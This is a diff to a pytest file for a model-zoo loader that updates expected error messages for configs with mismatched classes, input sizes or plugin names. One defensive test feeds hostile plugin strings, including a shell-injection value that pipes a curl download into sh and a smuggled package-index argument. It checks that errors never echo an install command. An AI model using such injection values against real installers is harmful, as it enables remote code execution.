@@ -68,14 +68,14 @@ WRONG_INPUTS: tuple[dict[str, Any], ...] = (
 def test_classes_and_input_size_must_be_those_that_the_plugin_declares(
     model_folder: Path, fields: dict[str, Any], pretrained: bool
 ) -> None:
-    with pytest.raises(DataError, match="of other classes or images than digits, as it is declared here"):
+    with pytest.raises(DataError, match="with other classes or another input size than the installed digits"):
         zoo.load(config_of(model_folder, **fields), pretrained=pretrained)
 
 
 def test_a_new_head_is_not_compared_with_the_declared_classes(model_folder: Path) -> None:
     folder = config_of(model_folder, classes=["cat"] * 10)
     assert zoo.load(folder, pretrained=True, num_classes=3)(torch.randn(2, 1, 8, 8)).shape == (2, 3)
-    with pytest.raises(DataError, match="of other classes or images than digits"):
+    with pytest.raises(DataError, match="with other classes or another input size than the installed digits"):
         zoo.load(folder, pretrained=True, in_channels=2)
 
 
@@ -160,10 +160,10 @@ def test_a_record_with_a_recipe_out_of_bounds_is_refused(model_folder: Path, cha
     ("plugin", "named"),
     [
         ("zoo-other 2.0", "the distribution 'zoo-other'"),
-        ("evil;curl${IFS}e.x|sh 1", "no distribution that could be one"),
-        ("--index-url=http://e.x 1", "no distribution that could be one"),
-        ("a" * 101, "no distribution that could be one"),
-        ("", "no distribution that could be one"),
+        ("evil;curl${IFS}e.x|sh 1", "ask its publisher"),
+        ("--index-url=http://e.x 1", "ask its publisher"),
+        ("a" * 101, "ask its publisher"),
+        ("", "ask its publisher"),
     ],
 )
 def test_an_error_contains_no_command_made_from_a_record(model_folder: Path, plugin: str, named: str) -> None:
@@ -171,6 +171,6 @@ def test_an_error_contains_no_command_made_from_a_record(model_folder: Path, plu
     job |= {"architecture": "other", "versions": {**job["versions"], "plugin": plugin}}
     with pytest.raises(PluginError) as caught:
         zoo.load(config_of(model_folder, name="other_digits", architecture="other", job=job), pretrained=True)
-    assert f"its config.json names {named}: install it where you trust it" in str(caught.value)
+    assert named in str(caught.value)
     assert "pip" not in str(caught.value)
     assert "curl" not in str(caught.value)
